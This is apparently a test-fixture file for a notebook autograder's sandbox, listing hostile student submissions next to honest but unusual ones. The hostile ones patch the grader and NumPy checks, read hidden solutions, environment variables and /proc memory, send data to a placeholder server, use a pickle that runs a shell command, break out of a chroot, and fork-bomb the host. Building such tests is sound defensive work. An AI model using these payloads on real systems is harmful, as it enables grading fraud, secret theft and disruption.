"""Hostile submissions of `dropout_numpy`, by class of attack, and honest ones that look odd.

In the sources SECRETS is a folder that no submission may see, PORT a server that none may reach, BYSTANDER a process
that none may touch, TOKEN what is written in every secret.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.sample.submissions import exercises, notebook, right_cells

ASSIGNMENT = "dropout_numpy"
EXERCISES = {exercise.name: exercise.points for exercise in exercises(ASSIGNMENT)}
FULL = sum(EXERCISES.values())
RIGHT = right_cells(ASSIGNMENT, 0)
FIRST, SECOND, THIRD, *_ = EXERCISES
Notebook = dict[str, Any]


@dataclass(frozen=True)
class Submission:
    """What is handed in, and what must hold.

    Attributes:
        kind: the class of attack, or "honest".
        book: the notebook's bytes, None for a special file that the test makes.
        twin: name of a submission without the attack, which it must not outscore.
        kept: exercises that are right and must keep their full points.
        status: of the submission, None where it may vary.
    """

    name: str
    kind: str
    book: bytes | None
    twin: str = "untouched"
    kept: frozenset[str] = frozenset()
    status: str | None = None


def cells_with(answer: str) -> dict[str, str]:
    """Return a cell for every exercise that defines it with this body or expression."""
    return {name: f"import numpy as np\n{answer.replace('NAME', name)}" for name in EXERCISES}


def cheat(kind: str, name: str, extra: str, answer: str = "", twin: str = "") -> Submission:
    """An extra cell that attacks the judging of answers that are not there, or wrong."""
    cells = cells_with(answer) if answer else {}
    return Submission(name, kind, notebook(ASSIGNMENT, cells, extra), twin or ("zeros" if answer else "untouched"))


def wreck(name: str, cell: str, status: str | None = None, kind: str = "breaking") -> Submission:
    """A second answer that does harm, beside a right one, which must not suffer."""
    book = notebook(ASSIGNMENT, {FIRST: RIGHT[FIRST], SECOND: cell})
    return Submission(name, kind, book, "only the first", frozenset({FIRST}), status)


def reach(name: str, attack: str) -> Submission:
    """A right answer and a cell that reaches out, prints what it got, and fails so that its output is shown."""
    extra = f"{attack}\nraise SystemExit('done')"
    book = notebook(ASSIGNMENT, {FIRST: RIGHT[FIRST]}, extra)
    return Submission(name, "reaching", book, "only the first", frozenset({FIRST}))


def honest(name: str, extra: str = "", **cells: str) -> Submission:
    return Submission(
        name, "honest", notebook(ASSIGNMENT, RIGHT | cells, extra), "right", frozenset(EXERCISES), "graded"
    )


def edited(kind: str, name: str, edit: Callable[[Notebook], Any], right: bool = False, twin: str = "") -> Submission:
    """A notebook changed as a whole."""
    book = json.loads(notebook(ASSIGNMENT, RIGHT if right else {}))
    edit(book)
    kept = frozenset(EXERCISES) if right else frozenset()
    return Submission(name, kind, json.dumps(book).encode(), twin or ("right" if right else "untouched"), kept)


def invalid(name: str, book: bytes) -> Submission:
    return Submission(name, "breaking", book, status="invalid")


def checks(book: Notebook) -> list[Notebook]:
    """Return the graded check cells of a notebook."""
    return [cell for cell in book["cells"] if is_check(cell)]


def is_check(cell: Notebook) -> bool:
    marks = cell["metadata"].get("nbgrader", {})
    return bool(marks.get("grade")) and not marks.get("solution")


def set_checks(source: str) -> Callable[[Notebook], None]:
    def edit(book: Notebook) -> None:
        for cell in checks(book):
            cell["source"] = source

    return edit


def each_cell(change: Callable[[Notebook], Any]) -> Callable[[Notebook], None]:
    def edit(book: Notebook) -> None:
        for cell in book["cells"]:
            change(cell)

    return edit


ZEROS = "def NAME(*args, **kwargs): return np.zeros_like(np.asarray(args[0], dtype=float))"
ARRAY_PAIR = "def NAME(*args, **kwargs): return (LIE(np.zeros_like(args[0])), LIE(np.zeros_like(args[0])))"
PAIR = ARRAY_PAIR.replace("LIE", "")


def twins() -> Iterator[Submission]:
    """Yield what attacks are measured against."""
    yield Submission("untouched", "twin", notebook(ASSIGNMENT, {}))
    yield Submission("zeros", "twin", notebook(ASSIGNMENT, cells_with(ZEROS)), "zeros")
    yield Submission("pairs of zeros", "twin", notebook(ASSIGNMENT, cells_with(PAIR)), "pairs of zeros")
    yield Submission("right", "twin", notebook(ASSIGNMENT, RIGHT), "right", frozenset(EXERCISES), "graded")
    only_first = notebook(ASSIGNMENT, {FIRST: RIGHT[FIRST]})
    yield Submission("only the first", "twin", only_first, "right", frozenset({FIRST}))


def rewriting() -> Iterator[Submission]:
    kind = "rewriting"
    yield cheat(kind, "input transformer", "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
    yield cheat(
        kind,
        "AST transformer",
        "import ast\nclass Nothing(ast.NodeTransformer):\n    def visit_Module(self, node): return ast.parse('pass')\n"
        "get_ipython().ast_transformers.append(Nothing())",
    )
    yield cheat(
        kind,
        "patched run_cell",
        "from IPython.core.interactiveshell import ExecutionResult, InteractiveShell\n"
        "InteractiveShell.run_cell = lambda *a, **k: ExecutionResult(None)",
    )
    yield edited(kind, "checks emptied", set_checks("pass"))
    yield edited(kind, "a literal score", set_checks("100.0"))
    yield edited(kind, "nan for a score", set_checks("float('nan')"))
    yield edited(kind, "checks deleted", lambda book: [book["cells"].remove(cell) for cell in checks(book)])
    yield edited(kind, "checks turned into text", lambda book: [c.update(cell_type="markdown") for c in checks(book)])
    yield edited(kind, "checks first", lambda book: book["cells"].sort(key=lambda cell: not is_check(cell)))
    yield edited(kind, "cells twice", lambda book: book["cells"].extend(json.loads(json.dumps(book["cells"]))))
    yield edited(
        kind,
        "more points in the metadata",
        each_cell(lambda cell: cell["metadata"].get("nbgrader", {}).update(points=1000, grade=True)),
    )
    yield edited(kind, "no metadata", each_cell(lambda cell: cell["metadata"].clear()))
    yield edited(
        kind, "tags", each_cell(lambda cell: cell["metadata"].update(tags=["raises-exception", "skip-execution"]))
    )
    yield edited(kind, "unlocked", each_cell(lambda cell: cell["metadata"].get("nbgrader", {}).update(locked=False)))
    yield edited(
        kind,
        "one grade_id for all",
        each_cell(lambda cell: cell["metadata"].get("nbgrader", {}).update(grade_id=f"{FIRST}")),
    )


def patching() -> Iterator[Submission]:
    kind = "patching"
    yield cheat(
        kind,
        "NumPy's tests",
        "import numpy as np\nfor name in dir(np.testing):\n    setattr(np.testing, name, lambda *a, **k: None)\n"
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True",
        ZEROS,
    )
    yield cheat(
        kind,
        "builtins",
        "import builtins\nfor name in ('abs', 'all', 'any', 'max', 'min', 'sum', 'len', 'isinstance'):\n"
        "    globals()[name] = lambda *a, **k: True\nbuiltins.all = builtins.any = lambda *a: True",
        ZEROS,
    )
    yield cheat(
        kind,
        "a module in place of NumPy",
        "import sys, types\nclass Yes(types.ModuleType):\n"
        "    def __getattr__(self, name): return lambda *a, **k: True\n"
        "sys.modules['numpy'] = sys.modules['numpy.testing'] = Yes('numpy')",
    )
    yield cheat(kind, "time", "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0", ZEROS)
    yield cheat(
        kind,
        "random generators",
        "import numpy as np\nclass Fixed:\n    def __init__(self, *a): pass\n"
        "    def random(self, size=None, **k): return np.zeros(size)\n    uniform = standard_normal = normal = random\n"
        "np.random.default_rng = np.random.Generator = Fixed",
        ZEROS,
    )
    yield cheat(
        kind,
        "tracebacks silenced",
        "import sys\nsys.excepthook = lambda *a: None\nshell = get_ipython()\n"
        "shell.showtraceback = lambda *a, **k: None\n"
        "shell.set_custom_exc((BaseException,), lambda *a, **k: None)",
    )
    yield cheat(
        kind,
        "files that shadow modules",
        "for name in ('numpy', 'beside', 'inside', 'autograder', 'json', 'struct'):\n"
        "    open(name + '.py', 'w').write('def respond(*a): return True')\n"
        "import importlib, sys\nfor name in ('beside', 'json'):\n    sys.modules.pop(name, None)\n"
        "    importlib.import_module(name)",
    )
    yield cheat(
        kind,
        "modules in place of the probes",
        "import sys, types\n"
        "for name in [name for name in sys.modules if name.partition('.')[0] == 'beside']:\n"
        "    sys.modules[name] = types.SimpleNamespace(\n"
        "        PROBES={}, attempt=None, respond=None, successive=lambda subject, times, x, *a, **k: [x] * times)",
    )
    yield cheat(
        kind,
        "the responder",
        "import sys\n"
        "sys.modules['beside.respond'].respond.__code__ = (lambda namespace, request: {"
        "'outcome': 'value', 'value': None, 'untouched': True}).__code__",
    )
    yield cheat(
        kind,
        "the executor",
        "import sys\n"
        "sys.modules['inside.executor'].Executor.handle = lambda self, request: {'points': 1000, 'outcome': 'graded'}",
    )
    yield cheat(
        kind,
        "the codec",
        "import sys\nsys.modules['inside.zygote'].encode = lambda tree: b'\\0\\0\\0\\x04true'",
    )
    yield cheat(
        kind,
        "the stub of check",
        "import sys, autograder\nautograder.check = lambda *a: 1000\nautograder.points = 1000\n"
        "sys.modules['autograder.checks'] = sys.modules['autograder.checks.judge'] = autograder",
    )


def lying() -> Iterator[Submission]:
    kind = "lying"
    equal = "import numpy as np\nclass LIE(np.ndarray):\n    def __new__(cls, a): return np.asarray(a).view(cls)\n"
    yield cheat(
        kind,
        "an array equal to everything",
        equal
        + "    def __eq__(self, other): return True\n    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__",
        ARRAY_PAIR,
        "pairs of zeros",
    )
    yield cheat(
        kind,
        "an array that decides what NumPy does",
        equal + "    def __array_ufunc__(self, *a, **k): return True\n"
        "    def __array_function__(self, *a, **k): return True\n    shape = property(lambda self: (2, 3))",
        ARRAY_PAIR,
        "pairs of zeros",
    )
    yield cheat(
        kind,
        "a number that is what one asks for",
        "class LIE(float):\n    def __eq__(self, other): return True\n    def __float__(self): return 1.0\n"
        "    __lt__ = __le__ = __gt__ = __ge__ = __eq__",
        "def NAME(*args, **kwargs): return LIE(0.0)",
    )
    for lie in (
        "float('nan')",
        "float('inf')",
        "np.full(np.shape(args[0]), np.nan)",
        "10 ** 400",
        "'100'",
        "None",
        "True",
    ):
        yield cheat(kind, f"every answer is {lie}", "", f"def NAME(*args, **kwargs): return {lie}")
    yield cheat(
        kind,
        "an object that answers by the number of the call",
        "class Answer:\n    calls = 0\n    def __call__(self, *args, **kwargs):\n        Answer.calls += 1\n"
        "        return args[0] if Answer.calls % 2 else 0 * args[0]",
        "NAME = Answer()",
        "right",
    )
    yield cheat(
        kind,
        "a function that searches its callers",
        "import sys, gc\ndef peep(*args, **kwargs):\n    frame, found = sys._getframe(), None\n    while frame:\n"
        "        for name, value in frame.f_locals.items():\n"
        "            if 'expect' in name or 'reference' in name: found = value\n"
        "        frame = frame.f_back\n    return found",
        "NAME = peep",
        "untouched",
    )
    yield cheat(kind, "a generator", "", "def NAME(*args, **kwargs):\n    while True: yield args[0]")
    yield cheat(
        kind, "an array of objects", "", "def NAME(*args, **kwargs): return np.array([object()] * 6, dtype=object)"
    )
    yield cheat(
        kind,
        "an object whose pickle runs a command",
        "import os\nclass Bomb:\n    def __reduce__(self): return os.system, ('touch SECRETS/planted',)",
        "def NAME(*args, **kwargs): return Bomb()",
    )
    yield cheat(
        kind,
        "a header that claims a huge array",
        "import sys, struct\nserver = sys.modules['inside.zygote']\n"
        "head = b\"\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, "
        "'shape': (99999999999,), }\".ljust(127) + b'\\n'\n"
        'tree = b\'{"map":{"outcome":"value","untouched":true,"value":{"npy":%d}}}\' % len(head)\n'
        "server.encode = lambda answer: struct.pack('>I', len(tree)) + tree + head",
    )
    yield cheat(
        kind,
        "a list that is nested without end",
        "endless = []\nendless.append(endless)",
        "def NAME(*args, **kwargs): return endless",
    )
    yield cheat(
        kind, "one number for a whole array", "", "def NAME(*args, **kwargs): return np.float64(0.0), np.float64(0.0)"
    )
    yield cheat(
        kind,
        "booleans that count more than one",
        "",
        "def NAME(*args, **kwargs): return args[0], np.full(args[0].shape, 200, np.uint8).view(bool)",
        "right",
    )
    yield cheat(
        kind,
        "text that no encoding has",
        "",
        "def NAME(*args, **kwargs): return np.full(3, 0xFFFFFFFF, np.uint32).view('U1'), '\\ud800'",
    )


def forging() -> Iterator[Submission]:
    kind = "forging"
    yield cheat(
        kind,
        "bytes to every descriptor",
        "import os\nfor number in range(256):\n    try: os.write(number, b'full marks' * 20)\n    except OSError: pass",
    )
    server = "import sys, gc, socket, struct\nserver = sys.modules['inside.zygote']\n"
    wire = server + "wire = socket.socket(fileno=3)\n"
    payload = "b'\\0\\0\\0\\x04true'"
    yield cheat(kind, "a frame before the question", wire + f"wire.sendall(server.frame(bytes(16), {payload}))")
    yield cheat(
        kind, "every answer twice", server + "once = server.frame\nserver.frame = lambda *a: once(*a) * 2", ZEROS
    )
    yield cheat(
        kind,
        "answers to the question before",
        server + "once, nonces = server.frame, [bytes(16)]\n"
        "def late(nonce, payload):\n    nonces.append(nonce)\n    return once(nonces[-2], payload)\n"
        "server.frame = late",
        ZEROS,
    )
    yield cheat(
        kind,
        "a thread that answers later",
        wire + "import threading, time\ndef flood():\n    while True:\n        time.sleep(0.01)\n"
        f"        wire.sendall(server.frame(bytes(16), {payload}))\n"
        f"threading.Thread(target=flood, daemon=True).start()",
        ZEROS,
    )
    yield cheat(
        kind, "a frame without an end", wire + "wire.sendall(struct.pack('>16sI', bytes(16), 2**32 - 1) + bytes(2**16))"
    )
    yield cheat(
        kind,
        "a verdict in a file",
        "import json, pathlib\nline = json.dumps({'student': 'me', 'points': 1000})\n"
        "for name in ('verdicts.jsonl', '../verdicts.jsonl', '../../verdicts.jsonl', 'gradebook.db', 'grades.csv'):\n"
        "    try: pathlib.Path(name).write_text(line)\n    except OSError: pass",
    )
    yield cheat(
        kind,
        "a copy of the process that answers too",
        "import os\nfor _ in range(3):\n    os.fork()",
        ZEROS,
    )
    yield cheat(
        kind,
        "different while graded",
        "import sys\ngraded = 'inside.zygote' in sys.modules",
        ZEROS.replace("return", "return None if graded else"),
    )


def memorising() -> Iterator[Submission]:
    kind = "memorising"
    yield cheat(
        kind,
        "what the seeds of the examples give",
        "import numpy as np\nknown = {seed: np.random.default_rng(seed).random((2, 3)) for seed in range(100)}",
        "def NAME(x, *args, **kwargs): return known[0], known[0] < 0.5",
    )
    yield cheat(
        kind,
        "answers keyed on the state of the generator",
        "def key(rng): return str(rng.bit_generator.state)",
        "def NAME(*args, **kwargs): return {key(a): 0 for a in args if hasattr(a, 'bit_generator')}.get(0, args[0])",
        "right",
    )


def reaching() -> Iterator[Submission]:
    show = (
        "\nfor path in paths:\n    try: print(open(path, errors='replace').read()[:2000])\n"
        "    except Exception as error: print(type(error))"
    )
    yield reach(
        "a solution by its path",
        "paths = ['SECRETS/solution.py', 'SECRETS/../' + 'SECRETS'[1:] + '/solution.py']" + show,
    )
    yield reach("another student's notebook", "paths = ['SECRETS/other.ipynb']" + show)
    yield reach("the gradebook", "paths = ['SECRETS/gradebook.db']" + show)
    yield reach(
        "a search of the whole disk",
        "import os\n"
        "paths = [os.path.join(d, f) for top in ('/var/tmp', '/home', '/root', '/work', '/tmp', '/srv', '/mnt')\n"
        "    for d, _, files in os.walk(top) for f in files if 'solution' in f or 'gradebook' in f][:50]" + show,
    )
    yield reach(
        "through the files of processes",
        "import glob\n"
        "paths = [p for k in ('environ', 'cmdline', 'root/SECRETS/solution.py', 'cwd/SECRETS/solution.py', 'mem')\n"
        "    for p in glob.glob('/proc/[0-9]*/' + k.replace('//', '/'))]" + show,
    )
    yield reach("the environment", "import os\nprint(os.environ)\n!env\n!set")
    yield reach("links", "!ln -s SECRETS/solution.py a; ln SECRETS/solution.py b; cat a b")
    yield reach(
        "the reference",
        "import sys\nsys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'Blocker']\n"
        "for name in list(sys.modules):\n    if name.startswith('autograder'): del sys.modules[name]\n"
        "sys.path[:0] = ['REPOSITORY']\nfrom autograder.reference import dropout\nprint('TOKEN', dropout.__file__)",
    )
    yield reach(
        "the source of the checks", "paths = ['REPOSITORY/autograder/checks/judge.py']" + show + "\n!ls REPOSITORY"
    )
    yield reach(
        "a TCP connection",
        "import socket\nfor host in ('127.0.0.1', 'localhost', '::1'):\n"
        "    try: socket.create_connection((host, PORT), 1)\n"
        "    except OSError as error: print(error)\n!curl -m 1 http://127.0.0.1:PORT/ || wget -T 1 http://127.0.0.1:PORT/",
    )
    yield reach(
        "a datagram",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'TOKEN', ('127.0.0.1', PORT))",
    )
    yield reach("a Unix socket", "import socket\nsocket.socket(socket.AF_UNIX).connect('SECRETS/socket')")
    yield reach("a signal to another process", "import os\nos.kill(BYSTANDER, 9)")
    yield reach("stopping the parent", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)")
    yield reach(
        "the memory of the parent",
        "import os\nopen(f'/proc/{os.getppid()}/mem', 'r+b').write(b'x')",
    )
    yield reach(
        "the memory of another process",
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "print(libc.ptrace(16, BYSTANDER, 0, 0), libc.process_vm_readv(BYSTANDER, 0, 0, 0, 0, 0))\n"
        "raise OSError if libc.ptrace(16, BYSTANDER, 0, 0) < 0 else None\nprint('TOKEN')",
    )
    yield reach("a change to another student's notebook", "open('SECRETS/other.ipynb', 'w').write('{}')")
    yield reach("a mode of another student's notebook", "import os\nos.chmod('SECRETS/other.ipynb', 0)")
    yield reach("removing another student's notebook", "import os\nos.remove('SECRETS/other.ipynb')")
    yield reach("a planted file", "open('SECRETS/planted', 'w').write('x')")
    yield reach(
        "new namespaces and mounts",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.unshare(0x10000000 | 0x20000) == 0\n"
        "assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, 0) == 0\nprint('TOKEN')",
    )
    yield reach("out of a chroot", "import os\nos.chroot('/proc/1/root')\nprint(open('SECRETS/solution.py').read())")
    yield reach(
        "a daemon that acts later",
        "import os\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        import time\n"
        "        time.sleep(3)\n"
        "        open('SECRETS/planted', 'w').write('x')\n    os._exit(0)\n"
        "import subprocess\n"
        "subprocess.Popen('(sleep 3; touch SECRETS/planted) & sleep 7BYSTANDER &', shell=True, start_new_session=True)",
    )
    yield reach(
        "a note for the next submission",
        "for folder in ('/tmp', '/dev/shm', '/var/tmp', '/home/student', '.', '..'):\n"
        "    try: open(folder + '/note-BYSTANDER', 'w').write('TOKEN')\n    except OSError: pass",
    )
    yield reach(
        "the note of another submission",
        "import glob\n"
        "paths = [p for f in ('/tmp', '/dev/shm', '/var/tmp', '/home/student', '.', '..', '../*')\n"
        "    for p in glob.glob(f + '/note-*')]" + show,
    )


def breaking() -> Iterator[Submission]:
    yield wreck("a loop", "while True: pass", "timeout")
    yield wreck(
        "a loop that swallows every exception",
        f"def {SECOND}(*args, **kwargs):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass",
        "timeout",
    )
    yield wreck(
        "a signal that is ignored",
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(100)",
        "timeout",
    )
    yield wreck(
        "a process that stops itself",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass",
        "timeout",
    )
    yield wreck("os._exit", f"def {SECOND}(*args, **kwargs):\n    import os\n    os._exit(0)", "died")
    yield wreck("sys.exit", f"def {SECOND}(*args, **kwargs):\n    import sys\n    sys.exit(0)", "error")
    yield wreck("a segmentation fault", "import ctypes\nctypes.string_at(0)", "died")
    yield wreck("an abort", "import os\nos.abort()", "died")
    yield wreck("descriptors closed", "import os\nos.closerange(0, 256)")
    yield wreck(
        "streams closed", "import sys\nsys.stdout.close(); sys.stderr.close(); sys.stdin.close()\n1 / 0", "error"
    )
    yield wreck("streams removed", "import sys\ndel sys.stdout, sys.stderr, sys.stdin, sys.__stdout__\n1 / 0", "error")
    yield wreck(
        "forks",
        "import os, time\nfor _ in range(1000):\n    if not os.fork():\n        time.sleep(30)\n"
        "        os._exit(0)\ntime.sleep(30)",
    )
    yield wreck(
        "threads",
        "import threading, time\n"
        "for _ in range(1000): threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\ntime.sleep(30)",
    )
    yield wreck("memory", "x = []\nwhile True: x.append(bytearray(10**7))", "memory")
    yield wreck("memory in one piece", "import numpy as np\nx = np.ones((10**6, 10**6))", "memory")
    yield wreck(
        "memory in many processes",
        "import os, time\nfor _ in range(20):\n    if not os.fork():\n        x = b'x' * 10**8\n"
        "        time.sleep(30)\n        os._exit(0)\ntime.sleep(30)",
    )
    yield wreck(
        "disk", "for n in range(100): open(f'f{n}', 'wb').write(bytes(10**7))\nimport time\ntime.sleep(2)\n1 / 0"
    )
    yield wreck("one huge file", "open('f', 'wb').truncate(10**12)", "error")
    yield wreck("folders without end", "import os\nwhile True:\n    os.mkdir('d'); os.chdir('d')")
    yield wreck(
        "a folder that cannot be removed",
        "import os\nos.makedirs('a/b'); open('a/b/c', 'w')\nos.chmod('a/b', 0); os.chmod('a', 0)\n1 / 0",
        "error",
    )
    yield wreck("descriptors", "files = []\nwhile True: files.append(open('/dev/null'))", "error")
    yield wreck("output", "line = 'x' * 10**6\nfor _ in range(300): print(line)\n1 / 0", "error")
    yield wreck("output past Python", "import os\nfor _ in range(3000): os.write(1, b'x' * 10**5)\n1 / 0", "error")
    yield wreck("recursion", "def f(): return f()\nf()", "error")
    yield wreck(
        "recursion without a limit",
        "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n"
        "    def __getattr__(self, n): return getattr(self, n)\nA().x",
        "died",
    )
    yield wreck(
        "an alarm",
        f"import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.05)\ndef {SECOND}(*args, **kwargs):\n"
        f"    while True: pass",
    )
    yield wreck(
        "every call traced", "import sys\nsys.settrace(lambda *a: 1 / 0)\nsys.setprofile(lambda *a: 1 / 0)\n1 / 0"
    )
    yield wreck(
        "an exception of no kind", f"class E(BaseException): pass\ndef {SECOND}(*args, **kwargs): raise E", "error"
    )
    yield wreck(
        "an exception that cannot be shown",
        "class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E",
        "timeout",
    )
    yield wreck(
        "an exception with markup",
        "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)> =1+1 \\x1b[31m \\x00 \\u202e')",
        "error",
    )
    yield wreck("an exception whose name is markup", "raise type('<b>=1+1', (Exception,), {})('x')", "error")
    yield wreck("an exception of a megabyte", "raise ValueError('x' * 10**6)", "error")
    yield wreck("garbage that never ends", "class G:\n    def __del__(self): G()\nG()\nimport gc\ngc.collect()\n1 / 0")
    yield invalid("no JSON", b"{'cells': []}")
    yield invalid("an empty file", b"")
    yield invalid("bytes", bytes(range(256)) * 100)
    yield invalid("a notebook of another time", json.dumps({"nbformat": 3, "worksheets": []}).encode())
    yield invalid("a notebook of the future", json.dumps({"nbformat": 99, "nbformat_minor": 0, "cells": []}).encode())
    yield invalid("cells that are no cells", json.dumps({"nbformat": 4, "cells": [1, None, {"source": 3}]}).encode())
    yield invalid("JSON nested without end", b"[" * 10**6)
    yield invalid("a notebook of 20 MB", b" " * (20 * 2**20))
    yield edited(
        "breaking",
        "a kernel of another language",
        lambda book: book["metadata"].update(kernelspec={"name": "R", "language": "R", "display_name": "R"}),
        right=True,
    )
    yield edited(
        "breaking",
        "times that are none",
        lambda book: book["metadata"].update(timestamp="31.2.2026 25:61", date=float("nan")),
        right=True,
    )
    yield edited(
        "breaking",
        "metadata of the wrong form",
        each_cell(lambda cell: cell.update(metadata=None) if "nbgrader" not in cell["metadata"] else None),
        right=True,
    )
    yield edited(
        "breaking",
        "outputs that are none",
        each_cell(
            lambda cell: cell.update(outputs=[1, {"output_type": "<script>"}]) if cell["cell_type"] == "code" else None
        ),
        right=True,
    )
    yield Submission("a link to a secret", "breaking", None, status="invalid")
    yield Submission("a pipe", "breaking", None, status="invalid")
    yield Submission('=HYPERLINK("http:x") <b>', "breaking", notebook(ASSIGNMENT, RIGHT), "right", frozenset(EXERCISES))


def odd() -> Iterator[Submission]:
    """Yield honest submissions."""
    yield honest(
        "warnings on stderr", "import sys, warnings\nwarnings.warn('careful')\nprint('progress', file=sys.stderr)"
    )
    yield honest("plots", "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()")
    yield honest("display and HTML", "from IPython.display import HTML, display\ndisplay(HTML('<b>x</b>'))\n{'a': 1}")
    yield honest("a lot of output", "for n in range(20_000): print(n)")
    yield honest("scratch work that fails", "1 / 0")
    yield honest("a question to the user", "name = input('your name? ')")
    yield honest("exit in the end", "exit()")
    yield honest("top-level await", "import asyncio\nawait asyncio.sleep(0.01)")
    yield honest("magics and shell", "%timeit -n1 -r1 sum(range(10))\n!echo hello\n%time 1 + 1")
    yield honest("packages installed", "!pip install numpy")
    yield honest("files written and read", "open('notes.txt', 'w').write('x')\nprint(open('notes.txt').read())")
    yield honest(
        "a pool of processes", "import multiprocessing as mp\nwith mp.Pool(2) as pool: print(pool.map(abs, [-1, 2]))"
    )
    yield honest("check called by hand", f"from autograder import check\ncheck({FIRST})")
    yield honest("a random state of one's own", "import numpy as np, random\nnp.random.seed(3)\nrandom.seed(3)")
    yield honest("errors of arithmetic raised", "import numpy as np\nnp.seterr(all='raise')")
    yield honest("warnings as errors", "import warnings\nwarnings.simplefilter('error')")
    moved = RIGHT[FIRST]
    cells = {name: cell for name, cell in RIGHT.items() if name != FIRST}
    yield Submission(
        "an answer in a cell of its own", "honest", notebook(ASSIGNMENT, cells, moved), "right", frozenset(EXERCISES)
    )
    yield honest(
        "an object in place of a function",
        **{
            FIRST: f"{moved}\nclass Answer:\n    def __init__(self, f): self.f = f\n"
            f"    def __call__(self, *args, **kwargs): return self.f(*args, **kwargs)\n{FIRST} = Answer({FIRST})"
        },
    )
    yield honest(
        "a decorated function",
        **{
            FIRST: f"{moved}\nimport functools\ndef traced(f):\n    @functools.wraps(f)\n"
            f"    def g(*args, **kwargs):\n        print('called')\n        return f(*args, **kwargs)\n"
            f"    return g\n{FIRST} = traced({FIRST})"
        },
    )
    yield honest("an answer under %%time", **{FIRST: f"%%time\n{moved}"})
    yield honest(
        "an answer that prints and warns",
        **{
            FIRST: f"{moved}\nimport sys, warnings\nquiet = {FIRST}\ndef {FIRST}(*args, **kwargs):\n"
            f"    print('x' * 1000)\n    warnings.warn('hm')\n    print('err', file=sys.stderr)\n"
            f"    return quiet(*args, **kwargs)"
        },
    )
    yield edited("honest", "a byte order mark and other line ends", lambda book: None, right=True)


def everything() -> list[Submission]:
    parts = (twins, rewriting, patching, lying, forging, memorising, reaching, breaking, odd)
    return [submission for part in parts for submission in part()]
